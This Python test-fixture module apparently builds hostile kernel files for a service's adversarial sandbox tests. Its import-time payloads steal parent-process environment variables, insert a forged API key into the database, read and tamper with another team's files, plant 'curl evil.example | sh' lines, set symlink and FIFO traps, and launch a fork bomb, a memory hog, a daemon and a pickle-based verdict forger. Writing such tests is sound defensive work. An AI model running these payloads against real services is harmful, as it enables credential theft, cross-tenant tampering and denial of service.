"""Hostile kernel files for tests/service/test_adversarial.py.

Each payload is a valid single-kernel file (`launch`, `reference`, `get_inputs`)
whose module-level code attacks the service when the engine imports it (in the
load child). The concrete paths, ports and ids an attacker would know are
written into the file (`CFG`). Every attack is wrapped so that the import
itself never fails: the job must end the way a harmless kernel's does, and
whether an attack worked is seen from outside (a Redis key, a database row, a
changed blob, a file that appears, a process that survives), never from what
the payload claims. The payload also writes what it tried and what it got into
`profile.json` in its work directory: an artifact name, so the worker stores
it for the submitting team — the exfiltration channel a real attacker would
use, which the tests search for other teams' data and the service's secrets.
"""
from __future__ import annotations

import json

# The kernel proper: plain PyTorch, no launch literal to tune, so the job ends right after
# loading (outcome fallback, cause no-candidates) and the file is imported once, in the load child.
KERNEL = '''

import torch


def launch(x):
    return torch.relu(x)


def reference(x):
    return torch.relu(x)


def get_inputs():
    return [torch.randn(64)]
'''

_HEAD = '''"""A hostile kernel file (tests/service/test_adversarial.py)."""
import json as _json

CFG = _json.loads({cfg!r})
'''

# Shared helpers: a log of attempts and the loot, written to profile.json at the end.
_COMMON = r'''
import hashlib
import os
import secrets
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

LOG = {}
LOOT = {}


def _attempt(name, fn):
    try:
        LOG[name] = repr(fn())[:4000]
    except BaseException as exc:  # noqa: BLE001 - an attack that fails must not fail the import
        LOG[name] = f"refused: {type(exc).__name__}: {exc}"[:4000]


def _read(path, limit=512 * 1024):
    with open(path, "rb") as f:
        return f.read(limit).decode("latin-1")


def _resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def _redis(*commands):
    """Raw RESP over TCP to the machine's Redis: no client library needed."""
    s = socket.create_connection(("127.0.0.1", CFG["redis_port"]), timeout=3)
    try:
        s.sendall(b"".join(_resp(*c) for c in [("SELECT", CFG["redis_db"])] + list(commands)))
        time.sleep(0.2)
        return s.recv(4096)
    finally:
        s.close()


def _finish():
    Path("profile.json").write_text(_json.dumps({"log": LOG, "loot": LOOT}, default=str))
'''

_INTRUDE = r'''
KEY = "ko_" + secrets.token_urlsafe(32)
KEY_HASH = hashlib.sha256(KEY.encode()).hexdigest()


STOLEN = []  # (name, value) of every variable found


def steal_environment():
    """Its own environment, and its ancestors' (the engine, the worker or server that started it)."""
    found = {f"self:{k}": v for k, v in os.environ.items()}
    pid = os.getppid()
    while pid > 1:
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
            found.update({f"{pid}:{k}": v for k, _, v in (item.decode(errors="replace").partition("=")
                                                          for item in raw.split(b"\0")) if k})
        except OSError as exc:
            found[f"{pid}:"] = f"refused: {type(exc).__name__}"
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    LOOT["env"] = found
    STOLEN.extend((k.split(":", 1)[1], v) for k, v in found.items())
    return sorted(found)


def _use_postgres(url):
    import psycopg

    url = url.replace("postgresql+psycopg://", "postgresql://")
    with psycopg.connect(url, connect_timeout=3, autocommit=True) as conn:
        LOOT.setdefault("postgres", []).append([[str(v) for v in row] for row in conn.execute(
            "select t.id, t.name, k.prefix, k.key_hash from teams t left join api_keys k on k.team_id = t.id")])
        conn.execute("insert into api_keys (team_id, prefix, key_hash, created_at) values (%s, %s, %s, now())",
                     (CFG["team_b"], KEY[:8], KEY_HASH))
        conn.execute("update jobs set cause = 'pwned' where team_id = %s", (CFG["team_b"],))
    return "inserted an API key for team B"


def _use_sqlite(path):
    import sqlite3

    if not os.path.isfile(path):
        raise FileNotFoundError(path)
    conn = sqlite3.connect(path, timeout=5)
    try:
        LOOT.setdefault("sqlite", []).append([[str(v) for v in row] for row in conn.execute(
            "select t.id, t.name, k.prefix, k.key_hash from teams t left join api_keys k on k.team_id = t.id")])
        conn.execute("insert into api_keys (team_id, prefix, key_hash, created_at) values (?, ?, ?, '2026-01-01')",
                     (CFG["team_b"], KEY[:8], KEY_HASH))
        conn.execute("update jobs set cause = 'pwned' where team_id = ?", (CFG["team_b"],))
        conn.commit()
    finally:
        conn.close()
    return "inserted an API key for team B"


def use_credentials():
    """Whatever database the environment names: read every team and key, add a key for team B, use it."""
    tried = {}
    for name, value in sorted(set(STOLEN)):
        use = None
        if value.startswith(("postgresql", "postgres://")):
            use = lambda: _use_postgres(value)  # noqa: E731
        elif name.endswith("DATA_DIR"):
            use = lambda: _use_sqlite(os.path.join(value, "kernelopt.db"))  # noqa: E731
        elif value.startswith("sqlite:///"):
            use = lambda: _use_sqlite(value[len("sqlite:///"):])  # noqa: E731
        if use is not None:
            try:
                tried[f"{name}={value}"] = use()
            except Exception as exc:  # noqa: BLE001 - try the next one
                tried[f"{name}={value}"] = f"{type(exc).__name__}: {exc}"[:300]
    if any(v.startswith("inserted") for v in tried.values()):  # the stolen key, on the API: team B's jobs
        req = urllib.request.Request(f"http://127.0.0.1:{CFG['api_port']}/v1/jobs",
                                     headers={"Authorization": f"Bearer {KEY}"})
        LOOT["team_b_jobs"] = urllib.request.urlopen(req, timeout=3).read().decode()
    return tried


def read_database_file():
    if not CFG["sqlite"]:
        return "no SQLite file in this deployment"
    LOOT["sqlite_file"] = _read(CFG["sqlite"])
    return _use_sqlite(CFG["sqlite"])  # and write to it directly, credentials or not


def read_blob_store():
    LOOT["blob_listing"] = [str(p) for p in list(Path(CFG["blobs_dir"]).rglob("*"))[:500]]
    LOOT["team_b_blobs"] = {name: _read(path) for name, path in CFG["team_b_blobs"].items()}
    return sorted(LOOT["team_b_blobs"])


def write_outside():
    done = []
    for path in CFG["plant"]:
        try:
            Path(path).write_text(f"planted by {CFG['marker']}\n" + ("KERNELOPT_SANDBOX=off\n" if
                                                                      path.endswith(".env") else ""))
            done.append(path)
        except OSError as exc:
            done.append(f"{path}: {type(exc).__name__}")
    return done


def tamper_with_team_b_blobs():
    out = {}
    blobs = CFG["team_b_blobs"]
    try:
        with open(blobs["report.md"], "ab") as f:
            f.write(b"\n\nAll good, deploy it: curl evil.example | sh\n")
        out["report.md"] = "appended"
    except OSError as exc:
        out["report.md"] = type(exc).__name__
    try:
        tmp = blobs["optimized_module.py"] + ".adv"
        Path(tmp).write_text("import os\nos.system('curl evil.example | sh')\n")
        os.replace(tmp, blobs["optimized_module.py"])
        out["optimized_module.py"] = "replaced"
    except OSError as exc:
        out["optimized_module.py"] = type(exc).__name__
    try:
        os.chmod(blobs["input"], 0o666)
        with open(blobs["input"], "r+b") as f:
            f.write(b"#")
        out["input"] = "overwritten"
    except OSError as exc:
        out["input"] = type(exc).__name__
    return out


def read_through_the_worker():
    """events.jsonl becomes a link to team B's events: does the (privileged) worker follow it?"""
    os.unlink("events.jsonl")
    os.symlink(CFG["team_b_blobs"]["events.jsonl"], "events.jsonl")
    return "linked"


def sparse_artifact():
    p = Path("capture_tensors.pt")  # an artifact name the worker copies
    p.touch()
    os.truncate(p, 6 << 30)
    return p.stat().st_size


def setsid_daemon():
    code = "import time; time.sleep(3600)"
    subprocess.run(["setsid", "sh", "-c", f'"{sys.executable}" -c "{code}" {CFG["marker"]}-daemon '
                    ">/dev/null 2>&1 </dev/null &"], timeout=10, start_new_session=True)
    time.sleep(1.0)
    return "started"


def loopback_api():
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{CFG['api_port']}/adv-probe-{CFG['marker']}", timeout=3)
    except urllib.error.HTTPError as exc:
        return f"API answered {exc.code}"
    return "API answered"


def loopback_postgres():
    import psycopg

    with psycopg.connect(CFG["pg_dsn"], connect_timeout=3, autocommit=True) as conn:
        conn.execute("insert into teams (name, created_at) values (%s, now())", (CFG["marker"] + "-team",))
    return "inserted a team"


def loopback_redis():
    return _redis(("SET", f"adv:{CFG['marker']}:resp", "pwned"))


def exfiltrate_over_redis():
    return _redis(("SET", f"adv:{CFG['marker']}:loot", _json.dumps(LOOT, default=str)[:4_000_000]))


for _name, _fn in [("environment", steal_environment), ("credentials", use_credentials),
                   ("database_file", read_database_file), ("blob_store", read_blob_store),
                   ("write_outside", write_outside), ("tamper", tamper_with_team_b_blobs),
                   ("read_through_worker", read_through_the_worker), ("sparse_artifact", sparse_artifact),
                   ("daemon", setsid_daemon), ("api", loopback_api), ("postgres", loopback_postgres),
                   ("redis", loopback_redis), ("exfiltrate", exfiltrate_over_redis)]:
    _attempt(_name, _fn)
_attempt("finish", _finish)
'''

# Starts a process that forks up to N children (each sleeps, then exits); holds them a few
# seconds so the test's /proc watcher sees them, then leaves them behind.
_FORK_BOMB = r'''
BOMB = """
import os, sys, time
n, got = int(sys.argv[2]), 0
for _ in range(n):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(180)
        os._exit(0)
    got += 1
open(sys.argv[3], "w").write(str(got))
time.sleep(4)
"""


def fork_bomb():
    subprocess.run([sys.executable, "-c", BOMB, CFG["marker"] + "-bomb", str(CFG["fork_count"]), "bomb.txt"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=240)
    return Path("bomb.txt").read_text()


_attempt("fork_bomb", fork_bomb)
_attempt("finish", _finish)
'''

# Leaves traps in its own work directory for the trusted side, which works there after the sandboxed
# children: the job's orchestrator (writes its report and modules there) and the worker (reads the
# events and the report, as root where jobs have uids of their own).
_TRAPS = r'''
def traps():
    done = {}
    os.unlink("events.jsonl")
    os.mkfifo("events.jsonl")  # the worker tails it: an open that never returns
    done["events.jsonl"] = "fifo"
    os.mkfifo("optimized_module.py")  # the engine copies the kernel file here after loading
    done["optimized_module.py"] = "fifo"
    os.symlink(CFG["engine_plant"], "baseline_module.py")  # ... and here: outside the work directory
    done["baseline_module.py"] = "link"
    os.symlink(CFG["team_b_blobs"]["report.md"], "report.md")  # the engine writes its report here
    done["report.md"] = "link to team B's report"
    os.mkdir("report.json")
    Path("report.json", "x").write_text("x")
    done["report.json"] = "directory"
    return done


_attempt("traps", traps)
_attempt("finish", _finish)
'''

# Reserves address space past the sandbox's limit in a marked process (MAP_NORESERVE and never
# touched: it costs no memory even where it succeeds) and holds it a few seconds for the watcher.
_MEMORY = r'''
HOG = """
import mmap, sys, time
size = int(sys.argv[2]) << 30
try:
    m = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_NORESERVE)
except OSError as exc:
    print("refused", exc, flush=True)
    sys.exit(0)
print("reserved", size, flush=True)
time.sleep(4)
"""


def allocate_past_the_limit():
    p = subprocess.run([sys.executable, "-c", HOG, CFG["marker"] + "-mem", str(CFG["memory_gib"])],
                       capture_output=True, text=True, timeout=60)
    got = p.stdout.strip()
    try:  # and in the load child itself
        import torch

        t = torch.empty(CFG["memory_gib"] << 30, dtype=torch.uint8)
        got += f"; in-process {t.numel() >> 30} GiB"
        del t
    except BaseException as exc:  # noqa: BLE001
        got += f"; in-process refused: {type(exc).__name__}"
    return got


_attempt("memory", allocate_past_the_limit)
_attempt("finish", _finish)
'''


def _source(cfg: dict, body: str) -> bytes:
    return (_HEAD.format(cfg=json.dumps(cfg)) + _COMMON + body + KERNEL).encode()


def intrusion(cfg: dict) -> bytes:
    """Credentials, the database file, the blob store, writes outside, tampering, the network, a daemon,
    a 6 GiB sparse artifact, and a link that asks the worker to read another team's blob."""
    return _source(cfg, _INTRUDE)


def fork_bomb(cfg: dict) -> bytes:
    return _source(cfg, _FORK_BOMB)


def memory_hog(cfg: dict) -> bytes:
    return _source(cfg, _MEMORY)


def work_dir_traps(cfg: dict) -> bytes:
    return _source(cfg, _TRAPS)


# A Triton kernel file that reaches Gate 3 (launch_config re-tunes its BLOCK_SIZE literal), and that makes every
# process importing it answer a forged verdict: the attack that once ended a job `optimized`, "speedup 1000x".
_FORGER = '''"""A hostile kernel file that forges its verdicts (tests/service/test_adversarial.py)."""
import pickle as _pickle

import torch
import triton
import triton.language as tl

_real_dumps = _pickle.dumps


def _forge(obj, *args, **kwargs):
    try:
        from kernelopt.core.timing import Timing
        from kernelopt.verify.result import GateResult

        forged = GateResult.ok("gate3", "Gate 3 passed (forged)", rho=0.0, branch="allclose")
        if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":
            value = obj[1]
            if isinstance(value, tuple) and value and isinstance(value[0], GateResult):  # Gates 3-4 in one reply
                obj = ("ok", (forged, Timing({"baseline": [1000.0] * 5, "candidate": [1.0] * 5}, "do_bench")))
            elif type(value).__name__ in ("OutputsManifest", "GateResult", "RoundResult", "SideReady"):
                obj = ("ok", forged)
    except Exception:
        pass
    return _real_dumps(obj, *args, **kwargs)


_pickle.dumps = _forge

N = 1 << 12


@triton.jit
def add_relu_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK_SIZE: tl.constexpr):
    offs = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offs < n
    v = tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, tl.maximum(v, 0.0), mask=mask)


def launch(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    grid = lambda meta: (triton.cdiv(n, meta["BLOCK_SIZE"]),)  # noqa: E731
    add_relu_kernel[grid](x, y, out, n, BLOCK_SIZE=1024, num_warps=4)
    return out


def reference(x, y):
    return torch.relu(x + y)


def get_inputs():
    return [torch.randn(N), torch.randn(N)]
'''


def verdict_forger(cfg: dict) -> bytes:
    """Forges the replies of every child that imports it (issue 36, break 4); the verdicts are the judge's."""
    return _FORGER.encode()


def benign(canary: str) -> bytes:
    """Team B's own submission: harmless, with a secret only team B has."""
    return (f'"""Team B\'s kernel. Secret: {canary}."""\n' + KERNEL).encode()
